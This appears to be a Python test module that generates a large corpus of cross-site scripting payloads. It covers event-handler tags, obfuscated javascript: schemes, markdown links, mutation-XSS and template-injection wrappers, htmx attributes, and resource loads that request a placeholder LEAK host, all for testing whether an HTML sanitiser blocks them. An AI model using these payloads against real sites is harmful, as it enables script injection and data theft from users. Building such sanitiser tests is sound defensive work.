"""Several hundred attacks, made by combining where script hides with how it is wrapped and spelt.

Each that runs calls `alert` with its own number, or asks the host of `LEAK` for it, so that a test
sees which one came through.  Combined rather than listed: a filter cannot pass by knowing a list.
"""

from collections.abc import Iterator
from functools import lru_cache
from itertools import product

from tests.browser.payloads import LEAK, PAYLOADS

STARTS_BY_ITSELF = (
    ("img src=x:", "onerror"),
    ("image src=x:", "onerror"),
    ("svg", "onload"),
    ("svg><animate attributeName=x dur=1s", "onbegin"),
    ("svg><set attributeName=x", "onend"),
    ("input autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("details open", "ontoggle"),
    ("video><source src=x:", "onerror"),
    ("audio src=x:", "onerror"),
    ("iframe src=about:blank", "onload"),
    ("body", "onpageshow"),
    ("object data=x:", "onerror"),
    ("marquee", "onstart"),
    ("script src=x:", "onerror"),
    ("style", "onload"),
)
WAITS_FOR_A_HAND = (
    "onclick",
    "onmouseover",
    "onpointerenter",
    "onfocusin",
    "onmousedown",
    "onkeyup",
)
HANDS = ("b", "a href=#top", "summary", "label", "td", "h1", "x-own", "button type=button")
SPELLINGS = (
    "<{tag} {on}={js}>",
    '<{tag} {on}="{js}">',
    "<{tag}/{on}='{js}'>",
    "<{TAG}\n{ON} = {js} >",
    "<{tag}\x0c{on}=`{js}`;{js}>",
    '"><{tag} {on}="{entities}" x="',
)
SCHEMES = (
    "javascript:{js}",
    "JaVasCript:{js}",
    " \x01javascript:{js}",
    "java\tscript:{js}",
    "java\nscript:{js}",
    "&#x6a;avascript&colon;{js}",
    "javascript://x%0a{js}",
    "data:text/html,<script>{js}</script>",
    "vbscript:{js}",
)
PLACES = (
    '<a href="{url}">open</a>',
    "[open]({url})",
    "[open](<{url}>)",
    "<{url}>",
    "![open]({url})",
    "[open]: {url}\n\n[open]",
    '<form action="{url}"><button>open</button></form>',
    '<button formaction="{url}">open</button>',
    '<iframe src="{url}"></iframe>',
    '<svg><a xlink:href="{url}"><text y=9>open</text></a></svg>',
    '<math><maction actiontype=statusline xlink:href="{url}">open</maction></math>',
    '<meta http-equiv=refresh content="0;{url}">',
)
WRAPS = (
    "<script>{js}</script>",
    "<script\t>{js}</script\t>",
    "<SCRIPT a='>'>{js}</SCRIPT>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "</script><script>{js}</script>",
    "</title><script>{js}</script>",
    "</textarea><script>{js}</script>",
    "</style><script>{js}</script>",
    "<!--><script>{js}</script>",
    "<![CDATA[><script>{js}</script>]]>",
    "<svg><style><script>{js}</script>",
    "<math><mi><mglyph><style><!--</style><img src=x: onerror={js}>",
    "<select><template shadowrootmode=open><script>{js}</script></template></select>",
    "<noscript><p title='</noscript><img src=x: onerror={js}>'>",
    "<textarea><img title='</textarea><img src=x: onerror={js}>'>",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "&amp;lt;img src=x: onerror={js}&amp;gt;",
    "%3Cscript%3E{js}%3C/script%3E",
    "\\x3cscript\\x3e{js}\\x3c/script\\x3e",
    "`<img src=x: onerror={js}>`",
    "    <img src=x: onerror={js}>",
    "> <img src=x: onerror={js}>",
    "| a |\n|---|\n| <img src=x: onerror={js}> |",
    "'-{js}-'",
    '"-{js}-"',
    "${{{js}}}",
    "{{{{ cycler.__init__.__globals__ or {js} }}}}",
    "<b hx-on:click={js} hx-get=/healthz hx-trigger=load>x</b>",
    "<b hx-get='/me' hx-trigger='load' hx-vals='js:{{a: {js}}}'>x</b>",
    "<tr id=board hx-swap-oob=true><td><img src=x: onerror={js}></td></tr>",
)
LOADS = (
    '<img src="{leak}">',
    '<img srcset="{leak} 2x">',
    "<picture><source srcset='{leak}'><img></picture>",
    "![seen]({leak})",
    "[![seen]({leak})](https://example.com)",
    '<link rel=stylesheet href="{leak}">',
    '<link rel=preload as=image href="{leak}">',
    '<link rel=icon href="{leak}">',
    "<style>@import url({leak});</style>",
    "<style>* {{ background: url({leak}) }}</style>",
    '<p style="background-image:url({leak})">x</p>',
    '<table background="{leak}"><tr><td>x</td></tr></table>',
    '<base href="{leak}/">',
    '<meta http-equiv=refresh content="0; url={leak}">',
    '<video poster="{leak}"></video>',
    '<audio autoplay src="{leak}"></audio>',
    '<embed src="{leak}">',
    '<object data="{leak}"></object>',
    '<iframe src="{leak}"></iframe>',
    "<svg><image xlink:href='{leak}'/></svg>",
    "<svg><use href='{leak}#a'/></svg>",
    "<svg><feImage href='{leak}'/></svg>",
    "<script src='{leak}'></script>",
    "<script type=module>import '{leak}'</script>",
    "<a href='#' ping='{leak}'>x</a>",
    "<div hx-get='{leak}' hx-trigger=load>x</div>",
    "<input type=image src='{leak}'>",
)


@lru_cache(maxsize=1)
def corpus() -> tuple[str, ...]:
    """Return every attack once, in an order that stays."""
    made = (shape.format(**_words(number)) for number, shape in enumerate(_shapes(), start=1_000))
    return tuple(dict.fromkeys([*made, *(text for text in PAYLOADS if "\u0000" not in text)]))


def _shapes() -> Iterator[str]:
    for (tag, on), spelling in product(STARTS_BY_ITSELF, SPELLINGS):
        yield _spelt(spelling, tag, on)
    for tag, on in product(HANDS, WAITS_FOR_A_HAND):
        yield _spelt(SPELLINGS[1], f"{tag} tabindex=0", on) + f"touch</{tag.split()[0]}>"
    for place, scheme in product(PLACES, SCHEMES):
        yield place.replace("{url}", scheme)
    yield from (*WRAPS, *LOADS)


def _spelt(spelling: str, tag: str, on: str) -> str:
    for name, word in (("tag", tag), ("TAG", tag.upper()), ("on", on), ("ON", on.upper())):
        spelling = spelling.replace(f"{{{name}}}", word)
    return spelling


def _words(number: int) -> dict[str, str]:
    js = f"alert({number})"
    entities = "".join(f"&#{ord(letter)};" for letter in js)
    return {"js": js, "entities": entities, "leak": f"{LEAK}/{number}"}
